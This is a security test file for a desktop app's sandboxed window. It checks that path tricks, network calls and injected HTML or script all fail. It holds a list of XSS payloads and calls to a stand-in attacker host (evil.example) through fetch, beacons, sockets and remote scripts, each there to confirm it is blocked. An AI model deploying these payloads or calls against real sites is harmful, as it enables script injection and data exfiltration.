import { expect, test } from './desktop.ts';
import { paths } from './tables.ts';

test('no spelling of a path reads a file that is not of the window', async ({ start }) => {
  const { app, page } = await start();
  expect(paths.length).toBeGreaterThanOrEqual(200);
  const read = await app.evaluate(async ({ net }, spellings) => {
    const found: [string, number, string][] = [];
    const index = await (await net.fetch('app://titan/index.html')).text();
    for (const path of spellings) {
      if (!URL.canParse(path, 'app://titan/index.html')) continue;
      const { href } = new URL(path, 'app://titan/index.html');
      // Another scheme is another handler's, and there is none.
      if (!href.startsWith('app:')) continue;
      // One with a name and a password in it is refused before it is sent.
      const response = await net.fetch(href).catch(() => null);
      if (!response) continue;
      const text = await response.text();
      const known = text === index || text.includes('<h1>The window stopped');
      if (response.status !== 404 && !(response.status === 200 && known))
        found.push([path, response.status, text]);
    }
    return found;
  }, paths);
  expect(read.map(([path, status]) => `${status} ${path}`)).toEqual([]);

  // The page itself asks for nothing, not even for what is its own.
  const answered = await page.evaluate(async (spellings) => {
    const answers = await Promise.allSettled(['index.html', ...spellings].map((path) => fetch(path)));
    return answers.filter(({ status }) => status === 'fulfilled').length;
  }, paths);
  expect(answered).toBe(0);
});

test('the page cannot reach the network, whatever it tries', async ({ start }) => {
  const { page } = await start();
  const reached = await page.evaluate(async () => {
    const got: string[] = [];
    const tries: Record<string, () => Promise<unknown>> = {
      fetch: () => fetch('https://evil.example/'),
      'fetch on loopback': () => fetch('http://127.0.0.1:9/'),
      'no-cors': () => fetch('https://evil.example/', { mode: 'no-cors' }),
      beacon: async () => {
        if (!navigator.sendBeacon('https://evil.example/', 'x')) throw new Error('refused');
        throw new Error('queued, and stopped by the policy');
      },
      image: () =>
        new Promise((yes, no) =>
          Object.assign(new Image(), { onload: yes, onerror: no, src: 'https://evil.example/x.png' }),
        ),
      socket: () =>
        new Promise((yes, no) =>
          Object.assign(new WebSocket('wss://evil.example/'), { onopen: yes, onerror: no }),
        ),
      events: () =>
        new Promise((yes, no) =>
          Object.assign(new EventSource('https://evil.example/'), { onopen: yes, onerror: no }),
        ),
      script: () =>
        new Promise((yes, no) => {
          document.head.append(
            Object.assign(document.createElement('script'), {
              onload: yes,
              onerror: no,
              src: 'https://evil.example/x.js',
            }),
          );
        }),
      eval: async () => new Function('return 1')(),
      worker: () =>
        new Promise((yes, no) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
          Object.assign(worker, { onmessage: yes, onerror: no });
        }),
    };
    for (const [name, run] of Object.entries(tries)) {
      await run().then(
        () => got.push(name),
        () => undefined,
      );
    }
    return got;
  });
  expect(reached).toEqual([]);
});

const payloads = [
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<script>window.pwned=1</script>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1" id="go">x</a>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/"></object>',
  '<embed src="https://evil.example/">',
];

test('no text becomes a page or a program, whichever way it is written into the window', async ({
  start,
}) => {
  const { page } = await start();
  const taken = await page.evaluate(async (texts) => {
    // Out of the hands of the test's own driver, which may do what a page may not.
    await new Promise((resolve) => setTimeout(resolve));
    const made = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag) => {
      const element = document.createElement(tag);
      document.body.append(element);
      return element;
    };
    const { trustedTypes: policies } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: Record<string, (text: string) => string>): unknown };
    };
    const ways: Record<string, (text: string) => unknown> = {
      innerHTML: (text) => Object.assign(made('div'), { innerHTML: text }),
      outerHTML: (text) => Object.assign(made('div'), { outerHTML: text }),
      insertAdjacentHTML: (text) => made('div').insertAdjacentHTML('beforeend', text),
      'document.write': (text) => document.write(text),
      srcdoc: (text) => Object.assign(made('iframe'), { srcdoc: text }),
      createContextualFragment: (text) => document.createRange().createContextualFragment(text),
      'a parser': (text) => new DOMParser().parseFromString(text, 'text/html'),
      'text of a script': () => Object.assign(made('script'), { textContent: 'window.pwned=1' }),
      'address of a script': () => Object.assign(made('script'), { src: 'https://evil.example/x.js' }),
      'attribute of an element': () => made('div').setAttribute('onclick', 'window.pwned=1'),
      // biome-ignore lint/security/noGlobalEval: what must be refused
      eval: () => globalThis.eval('window.pwned=1'),
      timer: () => setTimeout('window.pwned=1' as unknown as () => void, 0),
      policy: () => policies.createPolicy('mine', { createHTML: (text) => text }),
    };
    const accepted: string[] = [];
    for (const [way, write] of Object.entries(ways))
      for (const text of texts) {
        try {
          write(text);
          accepted.push(`${way}: ${text}`);
        } catch {
          // Refused, as it must be.
        }
      }
    return accepted;
  }, payloads);
  expect(taken).toEqual([]);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});

test('elements that are made without any text get nowhere either', async ({ start }) => {
  const { page } = await start();
  const ran = await page.evaluate(async () => {
    const put = (tag: string, properties: object, to: Element = document.body): HTMLElement => {
      const element = document.createElement(tag);
      try {
        Object.assign(element, properties);
      } catch {
        // An address of what could be a program is refused as text is.
      }
      to.append(element);
      return element;
    };
    put('a', { href: 'javascript:window.pwned=1' }).click();
    put('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }, document.head);
    put('base', { href: 'https://evil.example/' }, document.head);
    put('meta', { httpEquiv: 'refresh', content: '0;url=https://evil.example/' }, document.head);
    put('object', { data: 'https://evil.example/' });
    put('embed', { src: 'https://evil.example/' });
    const painted = put('div', {});
    put('style', { textContent: 'div { width: 77px }' });
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      pwned: 'pwned' in window,
      base: document.baseURI === location.href,
      styled: getComputedStyle(painted).width === '77px',
      here: location.href.startsWith(document.baseURI),
    };
  });
  expect(ran).toEqual({ pwned: false, base: true, styled: false, here: true });
});
